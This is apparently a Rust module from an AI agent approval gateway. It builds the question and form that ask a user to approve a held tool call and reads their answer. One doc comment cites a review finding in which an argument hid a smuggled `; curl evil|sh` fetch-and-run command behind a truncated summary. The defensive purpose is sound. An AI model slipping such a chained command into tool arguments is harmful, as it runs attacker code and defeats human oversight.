//! In-client approval: how the person driving the agent is asked about a held call
//! ([`Asker`], [`AskUser`]), the question and form put to them ([`in_client_question`],
//! [`elicitation_schema`]) and how their answer is read ([`user_answer`], [`UserAnswer`]).
//! It only builds and reads values; sending the question is the relay's and the hub's job.

use assent_api::gate::Pending;
use serde_json::{Value, json};
use std::sync::Arc;

/// How the person driving the agent can be asked about a held call that a rule lets them
/// approve (in-client approval).
#[derive(Clone, Default)]
pub enum Asker {
    /// They cannot be asked: operators decide.
    #[default]
    Nobody,
    /// Ask now, in a request to the client (elicitation, legacy clients).
    Elicit(AskUser),
    /// Answer the call with an `input_required` result the client retries with the answer
    /// (modern clients): [`crate::Outcome::AskClient`].
    InputRequired,
}

/// Asks the person driving the agent, in the MCP client, whether a held call may run
/// (elicitation, the question of [`in_client_question`], the form of
/// [`elicitation_schema`]). `Some` their answer, `None` no answer (dismissed, unsupported,
/// timed out).
pub type AskUser = Arc<
    dyn Fn(
            String,
        )
            -> std::pin::Pin<Box<dyn std::future::Future<Output = Option<UserAnswer>> + Send>>
        + Send
        + Sync,
>;

/// The answer of the person driving the agent to an in-client question.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UserAnswer {
    /// Approve (`true`) or deny the call.
    pub approve: bool,
    /// The reason they gave, if any (trimmed, at most 1,000 characters).
    pub reason: Option<String>,
}

impl UserAnswer {
    /// The decision reason relayed to the gateway: `approved by the user` or `declined by the
    /// user`, followed by `: REASON` when they gave one.
    pub fn relayed_reason(&self) -> String {
        let what = if self.approve {
            "approved by the user"
        } else {
            "declined by the user"
        };
        match &self.reason {
            Some(r) => format!("{what}: {r}"),
            None => what.to_string(),
        }
    }
}

/// The elicitation `requestedSchema` of an in-client question: a required boolean `approve`
/// and an optional `reason` string, relayed as the decision's reason (seed 002: a deny reason).
pub fn elicitation_schema() -> Value {
    json!({"type": "object", "required": ["approve"], "properties": {
        "approve": {"type": "boolean", "title": "Approve this call?",
                    "description": "Only this one call, with exactly these arguments."},
        "reason": {"type": "string", "title": "Reason (optional)",
                   "description": "Why you approve or deny it; recorded with your decision."}}})
}

/// The answer in an elicitation result: `accept` gives `content.approve` (anything but `true`
/// denies) and `content.reason`; `decline` denies; anything else is no answer.
pub fn user_answer(action: &str, content: Option<&Value>) -> Option<UserAnswer> {
    let reason = content
        .and_then(|c| c["reason"].as_str())
        .map(str::trim)
        .filter(|r| !r.is_empty())
        .map(|r| r.chars().take(1000).collect());
    match action {
        "accept" => Some(UserAnswer {
            approve: content.is_some_and(|c| c["approve"] == true),
            reason,
        }),
        "decline" => Some(UserAnswer {
            approve: false,
            reason,
        }),
        _ => None,
    }
}

/// The longest canonical JSON of a call's arguments put to the client's user whole, in
/// bytes; a call with longer arguments is not asked in the client (operators decide it).
pub const MAX_ASKED_ARGUMENTS_BYTES: usize = 2048;

/// The in-client question for a held call with `arguments`, from the gate's `pending` answer
/// (`POST /v1/tool-calls`, 202): what it asks (message, risk tier, summary), the arguments
/// whole (their canonical JSON, made visible: [`assent_core::template::visible`]), then, as
/// seed 002 asks of every approval surface, why it needs approval (the reasons), its predicted
/// side effects and its rollback notes (each line left out when empty). `None` when the
/// arguments are longer than [`MAX_ASKED_ARGUMENTS_BYTES`]: the form says "exactly these
/// arguments", and the summary cuts a value at 120 characters (found by review: a user
/// approved `echo 'aaa…` without seeing the `; curl evil|sh` after it).
pub fn in_client_question(p: &Pending, arguments: &Value) -> Option<String> {
    let whole = assent_core::canonical::canonical_value(arguments).ok()?;
    if whole.len() > MAX_ASKED_ARGUMENTS_BYTES {
        return None;
    }
    let mut q = format!(
        "assent: {} (risk {}; {}).\nArguments, whole: {}",
        p.message,
        p.verdict.risk_tier,
        p.human_summary,
        assent_core::template::visible(&whole)
    );
    let reasons = p.verdict.reasons.iter().map(|r| r.text.as_str());
    for (title, items) in [
        ("Why", non_empty(reasons)),
        (
            "Side effects",
            non_empty(p.side_effects.iter().map(String::as_str)),
        ),
        ("Rollback", non_empty(p.rollback.iter().map(String::as_str))),
    ] {
        if !items.is_empty() {
            q.push_str(&format!("\n{title}: {}", items.join("; ")));
        }
    }
    q.push_str("\nApprove this call? (You may give a reason.)");
    Some(q)
}

/// The items that are not empty.
fn non_empty<'a>(items: impl Iterator<Item = &'a str>) -> Vec<&'a str> {
    items.filter(|s| !s.is_empty()).collect()
}
